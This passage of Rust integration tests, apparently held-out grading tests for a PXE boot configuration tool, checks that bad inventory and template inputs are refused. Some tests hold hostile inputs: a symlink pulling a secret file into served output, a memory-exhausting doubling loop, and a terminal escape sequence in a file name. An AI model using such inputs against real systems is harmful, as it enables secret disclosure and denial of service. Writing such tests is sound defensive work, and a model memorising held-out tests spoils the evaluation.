    fs::write(dir.path().join("inventory/more.yaml"), "attributes:\n  base: &b { ntp: pool }\n  rack1:\n    <<: *b\n")
        .unwrap();
    let o = run(dir.path(), &["check", "--no-images", "--no-bootloaders"]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains("error: inventory/more.yaml:4: merge keys (`<<`) are not supported; write the keys out"),
        "{err}"
    );
}

/// Held-out: a typo'd MAC that no network card has (broadcast, multicast, all zero) was accepted.
#[test]
fn broadcast_multicast_and_all_zero_macs_are_refused() {
    for mac in ["ff:ff:ff:ff:ff:ff", "01:00:5e:00:00:01", "00:00:00:00:00:00"] {
        let dir = example_site();
        let p = dir.path().join("inventory/hosts.yaml");
        fs::write(&p, fs::read_to_string(&p).unwrap().replace("52:54:00:00:00:01", mac)).unwrap();
        let o = build(dir.path());
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(2), "{mac}: {err}");
        assert!(
            err.contains(&format!("host `backend-0-1`: mac `{mac}` is")) && err.contains("never a network card's"),
            "{err}"
        );
    }
}

/// Held-out: a reservation for the boot server's own address handed it to a machine.
#[test]
fn a_reserved_ip_equal_to_site_frontend_is_refused() {
    let dir = example_site();
    let p = dir.path().join("inventory/hosts.yaml");
    let hosts = fs::read_to_string(&p)
        .unwrap()
        .replace("      - { name: eth0, network: private, ip: 10.2.1.1 }\n", "")
        .replace("ip: 192.168.1.1, default: true", "ip: 192.168.1.1")
        .replace("ip: 10.2.255.253", "ip: 10.2.1.1");
    fs::write(&p, hosts).unwrap();
    let o = build(dir.path());
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains("host `backend-0-1`: ip `10.2.1.1` is site.frontend, the boot server's own address: a DHCP reservation would hand it to this machine"),
        "{err}"
    );
}

/// Held-out: two templates including each other were reported as "unknown template" each.
#[test]
fn templates_including_each_other_are_reported_as_a_cycle() {
    let dir = example_site();
    let t = dir.path().join("templates");
    fs::write(t.join("a.yaml"), "{% include \"b.yaml\" %}").unwrap();
    fs::write(t.join("b.yaml"), "{% include \"a.yaml\" %}").unwrap();
    let o = run(dir.path(), &["check", "--no-images", "--no-bootloaders"]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(err.contains("template syntax error in `a.yaml`: Circular include detected"), "{err}");
    assert!(!err.contains("Unknown template"), "{err}");
}

/// Held-out: a template linked to a file outside the templates directory was rendered into a
/// served file (a link to /etc/shadow published it over HTTP).
#[test]
fn a_template_linked_outside_the_templates_directory_is_refused() {
    let dir = example_site();
    let secret = dir.path().join("secret.txt");
    fs::write(&secret, "SECRET\n").unwrap();
    fs::remove_file(dir.path().join("templates/cloud-config.yaml")).unwrap();
    std::os::unix::fs::symlink(&secret, dir.path().join("templates/cloud-config.yaml")).unwrap();
    // A link inside the directory is fine.
    std::os::unix::fs::symlink("flatcar.bu", dir.path().join("templates/alias.bu")).unwrap();
    let o = build(dir.path());
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    let real = secret.canonicalize().unwrap();
    assert!(
        err.contains(&format!("error: templates/cloud-config.yaml: template is a symlink to `{}`, outside the templates directory; copy the file into it", real.display())),
        "{err}"
    );
    assert!(!err.contains("alias.bu"), "{err}");
    assert!(!dir.path().join("out").exists());
}

/// Held-out: a value doubled in a loop writes nothing and takes gigabytes within seconds (the
/// process aborted, or the machine swapped); each rendering's memory is bounded now.
#[test]
fn a_template_doubling_a_value_ends_in_a_clear_error_not_an_abort() {
    let dir = example_site();
    fs::write(
        dir.path().join("templates/cloud-config.yaml"),
        "#cloud-config\n{% set_global s = \"xxxxxxxxxxxxxxxx\" %}{% for i in range(end=40) %}{% set_global s = s ~ s %}{% endfor %}hostname: {{ host.name }}\n",
    )
    .unwrap();
    let o = run_within(dir.path(), &["--output", "json", "check"], 60);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert_json_error(&o, "1024 MiB");
    assert!(
        err.contains("error: rendering `cloud-config.yaml` (templates/cloud-config.yaml) took more than 1024 MiB of memory; a template may take at most that much per file (a runaway loop building a value?); nothing was written"),
        "{err}"
    );
}

/// Held-out: a log file whose name carries an escape sequence reached the terminal raw in the
/// warning of `pxebake events`.
#[test]
fn warnings_never_print_raw_escape_characters() {
    let dir = example_site();
    let log = dir.path().join("l\u{1b}[2Jog");
    fs::write(&log, "not an event\n").unwrap();
    let o = run(dir.path(), &["events", log.file_name().unwrap().to_str().unwrap()]);
    let err = stderr(&o);
    assert!(o.status.success(), "{err}");
    assert!(!err.contains('\u{1b}'), "{err:?}");
    assert!(err.contains("l\\u{1b}[2Jog:1: not a pxebake events line"), "{err}");
}
